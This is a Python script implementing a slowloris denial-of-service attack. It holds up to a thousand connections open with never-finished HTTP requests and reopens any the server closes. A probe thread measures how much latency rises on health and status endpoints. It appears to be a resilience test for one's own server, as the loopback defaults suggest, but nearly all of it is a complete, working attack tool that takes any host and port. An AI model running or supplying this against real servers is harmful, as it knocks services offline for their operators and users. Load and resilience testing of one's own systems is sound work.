#!/usr/bin/python3
"""slowloris — N idle connections that each send a request line and then one
header byte every INTERVAL seconds, never finishing the request, while a
probe (another source address) measures GET latencies (stdlib only).

  slowloris.py HOST PORT --conns 1000 --sources 127.0.0.1[,127.0.0.3…]
               --probe-source 127.0.0.2 --seconds 20 [--interval 3]
               [--path /healthz --path /api/fetcher/status]

The attacking connections are spread round-robin over --sources; one that
the server closes is reopened (as an attacker would). The probe asks each
path in turn over a new connection every 20 ms. Prints one JSON line:
{"attack": {"opened": N, "open_now": N, "closed_by_server": N,
 "connect_failed": N, "bytes_sent": N}, "probe": {"/healthz": {"n": N,
 "ok": N, "fail": N, "p50_ms": X, "p99_ms": X, "max_ms": X}, …}}
"""
import argparse, asyncio, json, socket, time, threading, http.client

ap = argparse.ArgumentParser()
ap.add_argument("host"); ap.add_argument("port", type=int)
ap.add_argument("--conns", type=int, default=1000)
ap.add_argument("--sources", default="127.0.0.1")
ap.add_argument("--probe-source", default="127.0.0.2")
ap.add_argument("--seconds", type=float, default=20)
ap.add_argument("--interval", type=float, default=3)
ap.add_argument("--path", action="append")
a = ap.parse_args()
paths = a.path or ["/healthz", "/api/fetcher/status"]
sources = a.sources.split(",")
st = {"opened": 0, "closed_by_server": 0, "connect_failed": 0, "bytes_sent": 0, "open_now": 0}

async def one(k, end):
    src = sources[k % len(sources)]
    while time.time() < end:
        try:
            r, w = await asyncio.wait_for(asyncio.open_connection(a.host, a.port, local_addr=(src, 0)), 5)
        except Exception:
            st["connect_failed"] += 1
            await asyncio.sleep(1)
            continue
        st["opened"] += 1; st["open_now"] += 1
        try:
            w.write(b"GET /healthz HTTP/1.1\r\nHost: x\r\n"); st["bytes_sent"] += 33
            await w.drain()
            while time.time() < end:
                # one header byte, then wait; notice a close by the server
                w.write(b"X"); st["bytes_sent"] += 1
                await w.drain()
                try:
                    data = await asyncio.wait_for(r.read(1), a.interval)
                    if not data:
                        break   # closed by the server
                    break       # an answer (408, 400…): the server gave up on us
                except asyncio.TimeoutError:
                    pass
            else:
                w.close(); st["open_now"] -= 1
                return
        except Exception:
            pass
        st["closed_by_server"] += 1; st["open_now"] -= 1
        w.close()
        await asyncio.sleep(1)   # then try again, as an attacker would

async def attack(end):
    await asyncio.gather(*(one(k, end) for k in range(a.conns)))

probe = {p: [] for p in paths}
probe_fail = {p: 0 for p in paths}
def prober(start, end):
    i = 0
    while time.time() < start:
        time.sleep(0.05)
    while time.time() < end:
        p = paths[i % len(paths)]; i += 1
        t0 = time.monotonic()
        try:
            c = http.client.HTTPConnection(a.host, a.port, timeout=5, source_address=(a.probe_source, 0))
            c.request("GET", p); r = c.getresponse(); r.read(); c.close()
            if r.status == 200:
                probe[p].append((time.monotonic() - t0) * 1000)
            else:
                probe_fail[p] += 1
        except Exception:
            probe_fail[p] += 1
        time.sleep(0.02)

end = time.time() + a.seconds
# the probe starts once the attack has had time to open its connections
t = threading.Thread(target=prober, args=(time.time() + min(5, a.seconds / 3), end))
t.start()
asyncio.run(attack(end))
t.join()
def pct(v, q):
    v = sorted(v)
    return round(v[min(len(v) - 1, int(len(v) * q))], 2) if v else None
res = {"attack": st, "probe": {p: {"n": len(probe[p]) + probe_fail[p], "ok": len(probe[p]), "fail": probe_fail[p],
        "p50_ms": pct(probe[p], 0.5), "p99_ms": pct(probe[p], 0.99), "max_ms": round(max(probe[p]), 2) if probe[p] else None}
        for p in paths}}
print(json.dumps(res))
